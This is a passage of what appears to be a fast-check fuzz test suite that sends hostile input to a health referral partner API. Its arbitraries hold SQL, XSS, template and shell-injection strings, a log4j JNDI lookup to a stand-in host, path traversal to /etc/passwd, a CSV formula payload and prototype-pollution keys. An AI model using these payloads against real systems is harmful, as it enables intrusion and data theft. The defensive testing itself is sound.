import { request as httpRequest } from 'node:http';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createOnwardReferrals,
  hashProviderKey,
  providerKeyFor,
  startDelivery,
} from '../../functions/shared/onward-referral-store.ts';
import { getReferral } from '../../functions/shared/referral-store.ts';
import { nhsNumberFor, validReferral } from '../fixtures/referrals.ts';
import { startTestRuntime, type TestRuntime } from '../support/runtime.ts';
import { asSentBy } from '../support/partners.ts';

/**
 * Hostile input against the partner API over real HTTP on the local runtime, with fast-check:
 * arbitrary JSON, valid referrals with fields mutated (wrong types, huge numbers, control and
 * unicode characters, 10k-character strings, `__proto__` / `constructor` / `prototype` keys at
 * any depth, injection strings), random content types, Idempotency-Keys and other headers,
 * duplicated headers, bodies that are not JSON, empty and oversized bodies; and fuzzed path
 * parameters of GET /v1/referrals/{id} and POST /v1/onward-referrals/{id}/status.
 *
 * Properties, for every request:
 *  - never a 5xx;
 *  - anything but 2xx is application/problem+json whose `status` is the HTTP status;
 *  - the answer (body and headers) never contains a marker string planted in the request;
 *  - POST /v1/referrals stores and starts something only for a 202: after each batch the
 *    journeys grew by the new, unlinked referral ids answered 202, and over each property the
 *    referral items (Scan, `type = referral`) grew by the new referral ids answered 202;
 *  - nothing pollutes Object.prototype (the handlers run in this process).
 *
 * Requests go in batches of 8 at a time (one fast-check run = one batch), each with a timeout.
 * Seeds and run counts are fixed: the same requests every time.
 */
const AREA = 'south-yorkshire';
/** Fixed, so every run sends the same requests; HOSTILE_INPUT_SEED=<n> explores others. */
const SEED = Number(process.env.HOSTILE_INPUT_SEED ?? 20260105);
const BATCH = 8;
const REQUEST_TIMEOUT_MS = 20_000;
const FUZZ_PARTNER = 0;
const OTHER_PARTNER = 1;

let rt: TestRuntime;
let previousLimit: string | undefined;
let previousLogLevel: string | undefined;
const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort();

/** Referral ids answered 202 so far (a retry or the same person answers an id seen before). */
const seenIds = new Set<string>();
let ownReferralId = '';
let otherPartnersReferralId = '';
const onwardIds: string[] = [];

beforeAll(async () => {
  previousLimit = process.env.PARTNER_RATE_LIMIT_PER_MINUTE;
  previousLogLevel = process.env.POWERTOOLS_LOG_LEVEL;
  // The runtime's clock stands still, so every request of the file is in one rate window.
  process.env.PARTNER_RATE_LIMIT_PER_MINUTE = '1000000';
  // Refused requests log warnings by design; only errors are worth reading here.
  process.env.POWERTOOLS_LOG_LEVEL = 'ERROR';
  rt = await startTestRuntime(AREA);
  const accept = async (partner: number) => {
    const res = await fetch(`${rt.gatewayUrl}/v1/referrals`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...rt.auth(partner) },
      body: JSON.stringify(asSentBy(rt.partners[partner]!.organisationType, freshReferral())),
    });
    expect(res.status).toBe(202);
    const { referralId } = (await res.json()) as { referralId: string };
    seenIds.add(referralId);
    return referralId;
  };
  ownReferralId = await accept(FUZZ_PARTNER);
  otherPartnersReferralId = await accept(OTHER_PARTNER);
  // Onward referrals a provider could answer: delivered (key hash stored) with a dead task token.
  for (let i = 0; i < 3; i++) {
    const referralId = await accept(FUZZ_PARTNER);
    const [onward] = await createOnwardReferrals(referralId, ['msk-physiotherapy']);
    await startDelivery({
      referralId,
      onwardReferralId: onward!.onwardReferralId,
      taskToken: `hostile-input-dead-token-${i}`,
      providerKeyHash: hashProviderKey(providerKeyFor(onward!.onwardReferralId)),
      at: new Date(),
    });
    onwardIds.push(onward!.onwardReferralId);
  }
  await rt.engine.idle();
});

afterAll(async () => {
  console.log(summary('all properties', total));
  await rt?.stop();
  if (previousLimit === undefined) delete process.env.PARTNER_RATE_LIMIT_PER_MINUTE;
  else process.env.PARTNER_RATE_LIMIT_PER_MINUTE = previousLimit;
  if (previousLogLevel === undefined) delete process.env.POWERTOOLS_LOG_LEVEL;
  else process.env.POWERTOOLS_LOG_LEVEL = previousLogLevel;
});

// -----------------------------------------------------------------------------------------------
// JSON documents as trees: duplicate keys, own `__proto__` keys and raw number tokens survive.

type J = null | boolean | number | string | { k: 'raw'; text: string } | { k: 'arr'; items: J[] } | { k: 'obj'; entries: [string, J][] };

const raw = (text: string): J => ({ k: 'raw', text });
const arr = (items: J[]): J => ({ k: 'arr', items });
const obj = (entries: [string, J][]): J => ({ k: 'obj', entries });

function fromJs(value: unknown): J {
  if (Array.isArray(value)) return arr(value.map(fromJs));
  if (value !== null && typeof value === 'object') {
    return obj(Object.keys(value).map((key) => [key, fromJs(Object.getOwnPropertyDescriptor(value, key)?.value)]));
  }
  if (typeof value === 'number') return Number.isFinite(value) ? value : null;
  if (typeof value === 'string' || typeof value === 'boolean') return value;
  return null;
}

function toText(j: J): string {
  if (j === null || typeof j !== 'object') return JSON.stringify(j);
  if (j.k === 'raw') return j.text;
  if (j.k === 'arr') return `[${j.items.map(toText).join(',')}]`;
  return `{${j.entries.map(([key, value]) => `${JSON.stringify(key)}:${toText(value)}`).join(',')}}`;
}

type Path = (string | number)[];

/** Every node of a tree (the root too). */
function pathsOf(j: J, at: Path = []): Path[] {
  const out: Path[] = [at];
  if (j !== null && typeof j === 'object' && j.k === 'obj') for (const [key, v] of j.entries) out.push(...pathsOf(v, [...at, key]));
  if (j !== null && typeof j === 'object' && j.k === 'arr') j.items.forEach((v, i) => out.push(...pathsOf(v, [...at, i])));
  return out;
}

function child(j: J, step: string | number): J | undefined {
  if (j === null || typeof j !== 'object') return undefined;
  if (j.k === 'obj') return j.entries.findLast(([key]) => key === step)?.[1];
  if (j.k === 'arr' && typeof step === 'number') return j.items[step];
  return undefined;
}

/** A copy of `root` with the node at `path` replaced by `f(node)` (undefined: removed). */
function update(root: J, path: Path, f: (node: J) => J | undefined): J {
  if (path.length === 0) return f(root) ?? null;
  const [step, ...rest] = path;
  if (root === null || typeof root !== 'object' || root.k === 'raw') return root;
  const next = child(root, step!);
  if (next === undefined) return root;
  const replaced = rest.length === 0 ? f(next) : update(next, rest, f);
  if (root.k === 'arr') {
    const items = [...root.items];
    if (replaced === undefined) items.splice(step as number, 1);
    else items[step as number] = replaced;
    return arr(items);
  }
  const entries = root.entries.flatMap(([key, v]): [string, J][] => {
    if (key !== step) return [[key, v]];
    return replaced === undefined ? [] : [[key, v === next ? replaced : v]];
  });
  return obj(entries);
}

// -----------------------------------------------------------------------------------------------
// What is sent

let people = 0;
/** A valid referral of someone no other request names (one journey per person). */
function freshReferral() {
  people++;
  return validReferral({ participant: { givenName: `Hostile${people}`, nhsNumber: nhsNumberFor(700_000 + people) } });
}
const BASE_PATHS = pathsOf(fromJs(validReferral()));
const OBJECT_PATHS = BASE_PATHS.filter((p) => {
  const node = p.reduce<J | undefined>((j, step) => (j === undefined ? undefined : child(j, step)), fromJs(validReferral()));
  return node !== null && typeof node === 'object' && node.k === 'obj';
});

type Mutation =
  | { op: 'set'; path: Path; value: J }
  | { op: 'delete'; path: Path }
  | { op: 'add'; path: Path; key: string; value: J }
  | { op: 'wrap'; path: Path; how: 'array' | 'object' };

function mutate(root: J, m: Mutation): J {
  switch (m.op) {
    case 'set':
      return update(root, m.path, () => m.value);
    case 'delete':
      return update(root, m.path, () => undefined);
    case 'wrap':
      return update(root, m.path, (node) => (m.how === 'array' ? arr([node]) : obj([['value', node]])));
    case 'add':
      return update(root, m.path, (node) =>
        node !== null && typeof node === 'object' && node.k === 'obj' ? obj([...node.entries, [m.key, m.value]]) : node,
      );
  }
}

type Body =
  | { kind: 'none' }
  | { kind: 'valid' }
  | { kind: 'mutated'; mutations: Mutation[] }
  | { kind: 'json'; value: J }
  | { kind: 'text'; text: string }
  | { kind: 'bytes'; bytes: number[] }
  /** A valid referral padded with spaces to `bytes` bytes. */
  | { kind: 'padded'; bytes: number }
  /** `unit` repeated to `bytes` bytes (oversized or deeply nested). */
  | { kind: 'repeat'; prefix: string; unit: string; suffix: string; bytes: number };

type Route = 'intake' | 'status' | 'provider';

interface Req {
  route: Route;
  method: string;
  /** Path after the gateway URL, as sent (already encoded where it should be). */
  path: string;
  headers: [string, string][];
  body: Body;
  /** Send with node:http and these raw headers as they are (duplicates kept). */
  raw?: boolean;
}

function materialize(body: Body): string | Uint8Array | undefined {
  switch (body.kind) {
    case 'none':
      return undefined;
    case 'valid':
      return JSON.stringify(freshReferral());
    case 'mutated':
      return toText(body.mutations.reduce(mutate, fromJs(freshReferral())));
    case 'json':
      return toText(body.value);
    case 'text':
      return body.text;
    case 'bytes':
      return Uint8Array.from(body.bytes);
    case 'padded': {
      const text = JSON.stringify(freshReferral());
      return `${text}${' '.repeat(Math.max(0, body.bytes - Buffer.byteLength(text)))}`;
    }
    case 'repeat': {
      const fixed = Buffer.byteLength(body.prefix) + Buffer.byteLength(body.suffix);
      const times = Math.max(0, Math.floor((body.bytes - fixed) / Buffer.byteLength(body.unit)));
      return `${body.prefix}${body.unit.repeat(times)}${body.suffix}`;
    }
  }
}

interface Answer {
  status: number;
  headers: [string, string][];
  text: string;
}

async function sendFetch(req: Req, body: string | Uint8Array | undefined): Promise<Answer> {
  const res = await fetch(`${rt.gatewayUrl}${req.path}`, {
    method: req.method,
    headers: req.headers,
    // Bytes, not a string: fetch adds no Content-Type of its own.
    ...(body === undefined ? {} : { body: typeof body === 'string' ? new TextEncoder().encode(body) : body }),
    redirect: 'manual',
    signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
  });
  return { status: res.status, headers: [...res.headers], text: await res.text() };
}

function sendRaw(req: Req, body: string | Uint8Array | undefined): Promise<Answer> {
  const url = new URL(rt.gatewayUrl);
  const bytes = body === undefined ? Buffer.alloc(0) : Buffer.from(body);
  const headers = [
    ['Host', url.host],
    ['Content-Length', String(bytes.byteLength)],
    ...req.headers,
  ].flat();
  return new Promise((resolve, reject) => {
    const request = httpRequest(
      { host: url.hostname, port: url.port, method: req.method, path: req.path, headers, signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS) },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => {
          const pairs: [string, string][] = [];
          for (let i = 0; i < res.rawHeaders.length; i += 2) pairs.push([res.rawHeaders[i]!.toLowerCase(), res.rawHeaders[i + 1]!]);
          resolve({ status: res.statusCode ?? 0, headers: pairs, text: Buffer.concat(chunks).toString('utf8') });
        });
        res.on('error', reject);
      },
    );
    request.on('error', reject);
    request.end(bytes);
  });
}

const MARKER = /MK[a-z0-9]{10}/g;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

function short(value: string | Uint8Array | undefined, max = 400): string {
  if (value === undefined) return '(no body)';
  const text = typeof value === 'string' ? value : `bytes:${Buffer.from(value).toString('hex')}`;
  return text.length > max ? `${text.slice(0, max)}… (${text.length} chars)` : text;
}

interface Stats {
  sent: number;
  accepted: number;
  refused: number;
  serverErrors: number;
  byStatus: Map<number, number>;
  /** Requests carrying a marker string the answer must not repeat. */
  marked: number;
  newIds: number;
}
const newStats = (): Stats => ({ sent: 0, accepted: 0, refused: 0, serverErrors: 0, byStatus: new Map(), marked: 0, newIds: 0 });
const total = newStats();

function summary(name: string, s: Stats): string {
  const statuses = [...s.byStatus].sort(([a], [b]) => a - b).map(([code, n]) => `${code}×${n}`).join(' ');
  return `hostile-input: ${name}: ${s.sent} sent, ${s.accepted} accepted, ${s.refused} refused, ${s.serverErrors} 5xx (${statuses}; ${s.marked} with markers)`;
}

function addTo(into: Stats, s: Stats): void {
  for (const key of ['sent', 'accepted', 'refused', 'serverErrors', 'marked', 'newIds'] as const) into[key] += s[key];
  for (const [code, n] of s.byStatus) into.byStatus.set(code, (into.byStatus.get(code) ?? 0) + n);
}

const executions = () => rt.engine.listExecutions().length;

/** Sends one batch at once and checks every answer and what it stored (see the top of the file). */
async function sendBatch(batch: Req[], stats: Stats): Promise<void> {
  const journeysBefore = executions();
  const sent = batch.map((req) => ({ req, body: materialize(req.body) }));
  const answers = await Promise.all(
    sent.map(async ({ req, body }) => {
      try {
        return await (req.raw ? sendRaw(req, body) : sendFetch(req, body));
      } catch (error) {
        throw new Error(`${req.method} ${short(req.path, 200)} failed to answer: ${String(error)}\nheaders ${JSON.stringify(req.headers)}\nbody ${short(body)}`);
      }
    }),
  );
  const fresh: string[] = [];
  for (const [i, answer] of answers.entries()) {
    const { req, body } = sent[i]!;
    stats.sent++;
    stats.byStatus.set(answer.status, (stats.byStatus.get(answer.status) ?? 0) + 1);
    const ok = answer.status >= 200 && answer.status < 300;
    if (ok) stats.accepted++;
    else stats.refused++;
    if (answer.status >= 500) stats.serverErrors++;
    const what = () =>
      `${req.method} ${short(req.path, 200)}\nrequest headers ${short(JSON.stringify(req.headers))}\nrequest body ${short(body)}\n` +
      `answer ${answer.status} ${JSON.stringify(answer.headers)}\n${short(answer.text)}`;
    const contentType = answer.headers.find(([k]) => k === 'content-type')?.[1] ?? '';

    if (answer.status >= 500) throw new Error(`never a 5xx\n${what()}`);
    if (answer.status < 200 || (answer.status >= 300 && answer.status < 400)) throw new Error(`unexpected status\n${what()}`);
    if (!ok) {
      if (!contentType.includes('application/problem+json')) throw new Error(`not problem+json\n${what()}`);
      let problem: { status?: unknown; title?: unknown };
      try {
        problem = JSON.parse(answer.text) as typeof problem;
      } catch {
        throw new Error(`problem+json that is not JSON\n${what()}`);
      }
      if (problem.status !== answer.status || typeof problem.title !== 'string') {
        throw new Error(`problem status ${String(problem.status)} is not the HTTP status\n${what()}`);
      }
    }
    const requestText = `${req.path}\n${req.headers.map(([k, v]) => `${k}: ${v}`).join('\n')}\n${body === undefined ? '' : Buffer.from(body).toString('utf8')}`;
    const answerText = `${answer.text}\n${answer.headers.map(([k, v]) => `${k}: ${v}`).join('\n')}`;
    const markers = new Set(requestText.match(MARKER) ?? []);
    if (markers.size) stats.marked++;
    for (const marker of markers) {
      if (answerText.includes(marker)) throw new Error(`the answer repeats ${marker} from the request\n${what()}`);
    }
    if (req.route === 'intake' && answer.status === 202) {
      const { referralId } = JSON.parse(answer.text) as { referralId?: string };
      if (typeof referralId !== 'string' || !UUID.test(referralId)) throw new Error(`202 without a referral id\n${what()}`);
      if (!seenIds.has(referralId)) {
        seenIds.add(referralId);
        fresh.push(referralId);
      }
    } else if (req.route === 'intake' && ok) {
      throw new Error(`intake answered ${answer.status}, not 202\n${what()}`);
    }
  }
  stats.newIds += fresh.length;
  // Journeys start before the 202 is sent: a new, unlinked referral id is one more journey.
  const linked = (await Promise.all(fresh.map(getReferral))).filter((r) => r?.linkedTo !== undefined).length;
  const started = executions() - journeysBefore;
  if (started !== fresh.length - linked) {
    throw new Error(
      `${started} journeys started for ${fresh.length} new referral ids (${linked} linked); answers ${answers.map((a) => a.status).join(',')}`,
    );
  }
  const polluted = Object.getOwnPropertyNames(Object.prototype).sort();
  if (JSON.stringify(polluted) !== JSON.stringify(prototypeKeys) || ({} as Record<string, unknown>).polluted !== undefined) {
    throw new Error(`Object.prototype was polluted: ${polluted.join(',')}`);
  }
}

/**
 * Runs a property: `numRuns` batches of 8 requests, then the referral item count must have
 * grown exactly by the new referral ids answered 202. Prints one summary line.
 */
async function runProperty(name: string, arb: fc.Arbitrary<Req>, numRuns: number, seed = SEED): Promise<Stats> {
  const stats = newStats();
  const itemsBefore = await rt.countReferralItems();
  try {
    await fc.assert(
      fc.asyncProperty(fc.array(arb, { minLength: BATCH, maxLength: BATCH }), (batch) => sendBatch(batch, stats)),
      { seed, numRuns },
    );
  } finally {
    // Counts include any requests fast-check re-sent while shrinking a failure.
    console.log(summary(name, stats));
    addTo(total, stats);
  }
  await rt.engine.idle();
  expect(await rt.countReferralItems(), 'referral items stored beyond the 202 answers').toBe(itemsBefore + stats.newIds);
  expect(stats.serverErrors).toBe(0);
  return stats;
}

// -----------------------------------------------------------------------------------------------
// Arbitraries

const alnum = 'abcdefghijklmnopqrstuvwxyz0123456789'.split('');
const marker = fc.string({ unit: fc.constantFrom(...alnum), minLength: 10, maxLength: 10 }).map((s) => `MK${s}`);

/** Injection strings, each carrying a marker. */
const injection = fc
  .tuple(
    marker,
    fc.constantFrom<(m: string) => string>(
      (m) => `'; DROP TABLE referrals; -- ${m}`,
      (m) => `Robert'); DROP TABLE Students;--${m}`,
      (m) => `" OR "1"="1 ${m}`,
      (m) => `<script>alert('${m}')</script>`,
      (m) => `<img src=x onerror=alert(1)>${m}`,
      (m) => `\${jndi:ldap://${m}.example/a}`,
      (m) => `{{7*7}}${m}`,
      (m) => `\${7*7}${m}`,
      (m) => `<%= 7*7 %>${m}`,
      (m) => `#{7*7}${m}`,
      (m) => `{"$gt": ""}${m}`,
      (m) => `../../../../etc/passwd${m}`,
      (m) => `=cmd|' /C calc'!A0 ${m}`,
      (m) => `\r\nSet-Cookie: ${m}=1`,
      (m) => `%0d%0aX-Injected:%20${m}`,
      (m) => `${m}\u0000after-nul`,
      (m) => `\u202e${m}\u202d`,
      (m) => `$(touch /tmp/${m})`,
      (m) => `\`id\`${m}`,
      (m) => `__proto__.polluted=${m}`,
    ),
  )
  .map(([m, template]) => template(m));

const nanLike = fc.constantFrom('NaN', 'Infinity', '-Infinity', 'null', 'undefined', 'true', 'false', '0x1F', '1e309', '-0', '', ' ', '\t', '0', '[]', '{}');
const controlChars = fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 12 });
const oddUnicode = fc.constantFrom(
  '\ufeffAlex',
  'Z\u0351\u0362a\u0336l\u0334g\u0335o',
  '👩‍👩‍👧‍👦',
  '\ud800',
  '\udfff\ud800',
  'İstanbul',
  'straße',
  'ﬃ',
  '\u2028\u2029',
  '\u200b',
  'ＡＢＣ',
  's1 2he',
  'S1  2HE',
  '𝐒𝟏 𝟐𝐇𝐄',
);
const long = fc
  .tuple(marker, fc.constantFrom('a', 'é', '😀', '\u0000', ' ', '<'), fc.constantFrom(199, 200, 201, 2000, 2001, 10_000))
  .map(([m, unit, n]) => `${m}${unit.repeat(Math.max(0, n - m.length))}`);
const hostileString = fc.oneof(
  { arbitrary: injection, weight: 4 },
  { arbitrary: nanLike, weight: 1 },
  { arbitrary: controlChars, weight: 1 },
  { arbitrary: oddUnicode, weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: long, weight: 2 },
  { arbitrary: fc.tuple(marker, fc.string({ maxLength: 20 })).map(([m, s]) => `${s}${m}`), weight: 2 },
);
const hugeNumber = fc.constantFrom(
  '1e400',
  '-1e400',
  '1E-400',
  '123456789012345678901234567890',
  '9007199254740993',
  '-0',
  '0.0000000000000000000000001',
  '1.7976931348623157e308',
  '5e-324',
);
/** Keys that could pollute prototypes or be read as something else. */
const hostileKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', '__defineGetter__', 'toString', 'valueOf', 'hasOwnProperty', 'then', '$where', '$gt', ''),
  fc.tuple(marker, fc.constantFrom('<', ' ', '/', '~', '"', '.', "'")).map(([m, c]) => `${c}${m}${c}`),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

const leaf: fc.Arbitrary<J> = fc.oneof(
  { arbitrary: hostileString, weight: 6 },
  { arbitrary: hugeNumber.map(raw), weight: 2 },
  { arbitrary: fc.constantFrom<J>(null, true, false, 0, -1, 1), weight: 1 },
  { arbitrary: fc.integer().map<J>((n) => n), weight: 1 },
  { arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }).map<J>((n) => n), weight: 1 },
);

/** JSON made of hostile leaves and keys, up to depth 4 (prototype keys at any depth). */
const hostileJson: fc.Arbitrary<J> = fc.letrec<{ node: J }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true, maxDepth: 4 },
    { arbitrary: leaf, weight: 3 },
    { arbitrary: fc.array(tie('node'), { maxLength: 4 }).map(arr), weight: 1 },
    { arbitrary: fc.array(fc.tuple(fc.oneof(hostileKey, fc.string({ maxLength: 8 })), tie('node')), { maxLength: 4 }).map(obj), weight: 1 },
  ),
})).node;

/** Values that may still pass the schema where they land. */
const plausible = fc.constantFrom<J>(
  'gp',
  'employer',
  'self',
  'in_work_struggling',
  'musculoskeletal',
  'email',
  'sms',
  'letter',
  '1985-06-15',
  '2026-02-30',
  '1985-13-01',
  '0000-00-00',
  '2026-03-02T10:15:00Z',
  '2026-03-02T10:15:00+01:00',
  '2026-03-02 10:15:00',
  'S1 2HE',
  's1 2he',
  'M1 1AE',
  'SW1A 1AA',
  '9434765919',
  '943 476 5919',
  'C88001',
  '07700 900123',
  '+447700900123',
  'a@example.com',
  true,
  false,
  arr([]),
  arr(['other']),
  obj([]),
);
const value: fc.Arbitrary<J> = fc.oneof({ arbitrary: hostileJson, weight: 5 }, { arbitrary: plausible, weight: 2 });

const basePath = fc.constantFrom(...BASE_PATHS);
const objectPath = fc.constantFrom(...OBJECT_PATHS);
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { arbitrary: fc.record({ op: fc.constant('set' as const), path: basePath, value }), weight: 6 },
  { arbitrary: fc.record({ op: fc.constant('delete' as const), path: basePath }), weight: 1 },
  {
    arbitrary: fc.record({
      op: fc.constant('add' as const),
      path: objectPath,
      key: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype'), hostileKey, fc.constantFrom('source', 'participant', 'givenName', 'nhsNumber')),
      value: fc.oneof(value, fc.constant(obj([['polluted', 'yes'], ['__proto__', obj([['polluted', 'yes']])]]))),
    }),
    weight: 3,
  },
  { arbitrary: fc.record({ op: fc.constant('wrap' as const), path: basePath, how: fc.constantFrom('array' as const, 'object' as const) }), weight: 1 },
);

/** Header values fetch and the HTTP parser accept: tab, visible ASCII and space, Latin-1. */
const headerChar = fc.oneof(
  { arbitrary: fc.integer({ min: 0x20, max: 0x7e }), weight: 8 },
  { arbitrary: fc.integer({ min: 0x80, max: 0xff }), weight: 1 },
  { arbitrary: fc.constant(0x09), weight: 1 },
).map((c) => String.fromCharCode(c));
const headerValue = fc.oneof(
  fc.string({ unit: headerChar, maxLength: 60 }),
  fc.tuple(marker, fc.constantFrom('<script>', "'; DROP TABLE x; --", '${jndi:ldap://x/a}', '{{7*7}}')).map(([m, s]) => `${s}${m}`),
);

const auth = (partner = FUZZ_PARTNER): [string, string] => ['authorization', rt.auth(partner).authorization!];
const json: [string, string] = ['content-type', 'application/json'];
const intake = (headers: [string, string][], body: Body, raw = false): Req => ({
  route: 'intake',
  method: 'POST',
  path: '/v1/referrals',
  headers,
  body,
  ...(raw ? { raw } : {}),
});

// -----------------------------------------------------------------------------------------------

describe('hostile input against POST /v1/referrals', () => {
  it('arbitrary JSON values', { timeout: 120_000 }, async () => {
    const body = fc.oneof(
      fc.jsonValue({ maxDepth: 4 }).map((v): Body => ({ kind: 'json', value: fromJs(v) })),
      hostileJson.map((value): Body => ({ kind: 'json', value })),
    );
    await runProperty('arbitrary JSON', body.map((b) => intake([auth(), json], b)), 25);
  });

  it('valid referrals with one to three fields mutated', { timeout: 120_000 }, async () => {
    const body = fc.array(mutation, { minLength: 1, maxLength: 3 }).map((mutations): Body => ({ kind: 'mutated', mutations }));
    const stats = await runProperty('mutated referrals', body.map((b) => intake([auth(), json], b)), 70);
    // Some mutations keep the referral valid: those must be accepted, and are counted above.
    expect(stats.accepted).toBeGreaterThan(0);
    expect(stats.refused).toBeGreaterThan(stats.accepted);
  });

  it('random content types, Idempotency-Keys, credentials and other headers', { timeout: 120_000 }, async () => {
    const contentType = fc.oneof(
      { arbitrary: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'Application/JSON; Charset="UTF-8"'), weight: 3 },
      fc.constantFrom(
        'application/json',
        'APPLICATION/JSON',
        'application/json; charset=utf-8',
        'application/json;charset=UTF-8',
        'application/json; charset="utf-8"',
        'application/json; charset=utf-16',
        'application/json; charset=iso-8859-1',
        'application/json; boundary=x; charset=utf8',
        'application/json, text/plain',
        'application/jsonx',
        'application/problem+json',
        'application/vnd.api+json',
        'application/fhir+json',
        'text/json',
        'text/plain',
        'text/plain; charset=utf-8',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=----x',
        '*/*',
        'application/*',
        ' application/json ',
        'application/json;',
        ';application/json',
      ),
      headerValue,
    );
    const idempotencyKey = fc.oneof(
      fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 40 }),
      fc.constantFrom('fuzz-key-1', 'fuzz-key-2', 'fuzz-key-3', 'k'.repeat(255), 'k'.repeat(256), '', ' ', 'a b'),
      headerValue,
      fc.string({ unit: headerChar, minLength: 250, maxLength: 300 }),
    );
    const credential = fc.oneof(
      { arbitrary: fc.constant(auth()), weight: 16 },
      { arbitrary: fc.constant(auth(OTHER_PARTNER)), weight: 1 },
      { arbitrary: headerValue.map((v): [string, string] => ['authorization', `Bearer ${v}`]), weight: 1 },
      { arbitrary: headerValue.map((v): [string, string] => ['authorization', v]), weight: 1 },
    );
    const extraName = fc.oneof(
      fc.constantFrom('accept', 'accept-language', 'origin', 'referer', 'user-agent', 'x-forwarded-for', 'x-forwarded-host', 'x-http-method-override', 'x-amzn-trace-id', 'cookie', 'prefer', 'x-api-key', 'content-encoding'),
      fc.string({ unit: fc.constantFrom(...alnum, '-'), minLength: 1, maxLength: 12 }).map((s) => `x-${s}`),
    );
    const body = fc.oneof(
      { arbitrary: fc.constant<Body>({ kind: 'valid' }), weight: 3 },
      { arbitrary: fc.array(mutation, { minLength: 1, maxLength: 2 }).map((mutations): Body => ({ kind: 'mutated', mutations })), weight: 1 },
      { arbitrary: fc.string({ maxLength: 200 }).map((text): Body => ({ kind: 'text', text })), weight: 1 },
    );
    const req = fc
      .record({
        credential: fc.option(credential, { freq: 24 }),
        contentType: fc.option(contentType, { freq: 8 }),
        idempotencyKey: fc.option(idempotencyKey, { freq: 3 }),
        extra: fc.array(fc.tuple(extraName, headerValue), { maxLength: 3 }),
        body,
      })
      .map(({ credential, contentType, idempotencyKey, extra, body }) => {
        const headers: [string, string][] = [...extra];
        if (credential) headers.push(credential);
        if (contentType !== null) headers.push(['content-type', contentType]);
        if (idempotencyKey !== null) headers.push(['idempotency-key', idempotencyKey]);
        return intake(headers, body);
      });
    await runProperty('headers', req, 35);
  });

  it('bodies that are not JSON, empty, oversized or deeply nested', { timeout: 120_000 }, async () => {
    const broken = fc.constantFrom(
      '',
      ' ',
      'null',
      '"just a string"',
      '[]',
      '{}',
      '{',
      '}',
      '{"source":"gp",}',
      "{'source':'gp'}",
      '{"source":"gp" /* comment */}',
      '{"source":"gp"}{"source":"gp"}',
      '\ufeff{"source":"gp"}',
      'source=gp&participant=x',
      '<?xml version="1.0"?><referral/>',
      '--x\r\nContent-Disposition: form-data; name="source"\r\n\r\ngp\r\n--x--',
      '{"a":"\\ud800"}',
      '{"a":"\\u0000"}',
      '{"a":"\\x41"}',
      'NaN',
      'Infinity',
      '1e400',
      '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}',
    );
    const brokenWithMarker = fc
      .tuple(marker, fc.constantFrom<(m: string) => string>(
        (m) => `{"participant":{"givenName":"<script>${m}</script>"`,
        (m) => `{"source":"gp","participant":{"nhsNumber":"${m}",}}`,
        (m) => `{'participant': {'familyName': '${m}'}}`,
        (m) => `participant[givenName]=${m}&source=gp`,
        (m) => `<referral><name>${m}</name></referral>`,
        (m) => `{"source":"gp"}\u0000${m}`,
      ))
      .map(([m, template]): Body => ({ kind: 'text', text: template(m) }));
    const body: fc.Arbitrary<Body> = fc.oneof(
      broken.map((text): Body => ({ kind: 'text', text })),
      brokenWithMarker,
      fc.string({ unit: 'binary', maxLength: 300 }).map((text): Body => ({ kind: 'text', text })),
      fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 300 }).map((bytes): Body => ({ kind: 'bytes', bytes })),
      fc.tuple(fc.nat(2000)).map(([cut]): Body => ({ kind: 'text', text: JSON.stringify(validReferral()).slice(0, cut % 600) })),
      fc.constantFrom(65_535, 65_536, 65_537, 70_000, 1_048_577).map((bytes): Body => ({ kind: 'padded', bytes })),
      fc
        .constantFrom(
          { prefix: '', unit: '[', suffix: '', bytes: 60_000 },
          { prefix: '', unit: '[', suffix: '', bytes: 200_000 },
          { prefix: '{"health":{"details":', unit: '{"a":', suffix: '}}', bytes: 60_000 },
          { prefix: '{"reasonableAdjustments":', unit: '[', suffix: '', bytes: 60_000 },
          { prefix: '{"a":"', unit: 'x', suffix: '"}', bytes: 2_000_000 },
          { prefix: '[', unit: '1,', suffix: '1]', bytes: 64_000 },
          { prefix: '{', unit: '"k":1,', suffix: '"k":1}', bytes: 64_000 },
          { prefix: '"', unit: '\\u0000', suffix: '"', bytes: 64_000 },
        )
        .map((r): Body => ({ kind: 'repeat', ...r })),
      fc.constant<Body>({ kind: 'none' }),
    );
    await runProperty('not JSON or oversized', body.map((b) => intake([auth(), json], b)), 20);
  });

  it('duplicated headers (sent as separate header lines)', { timeout: 120_000 }, async () => {
    const valid = () => auth()[1];
    const duplicates = fc.constantFrom<(m: string) => [string, string][]>(
      (m) => [['X-Note', `<script>${m}</script>`], ['X-Note', `'; DROP TABLE x; --${m}`]],
      (m) => [['Idempotency-Key', `dup-${m}`], ['Idempotency-Key', `dup-${m}-2`]],
      () => [['Authorization', valid()], ['Authorization', 'Bearer garbage']],
      () => [['Authorization', 'Bearer garbage'], ['Authorization', valid()]],
      () => [['Authorization', valid()], ['authorization', valid()]],
      () => [['Authorization', valid()], ['AUTHORIZATION', auth(OTHER_PARTNER)[1]]],
      () => [['Content-Type', 'application/json'], ['Content-Type', 'text/plain']],
      () => [['Content-Type', 'text/plain'], ['content-type', 'application/json']],
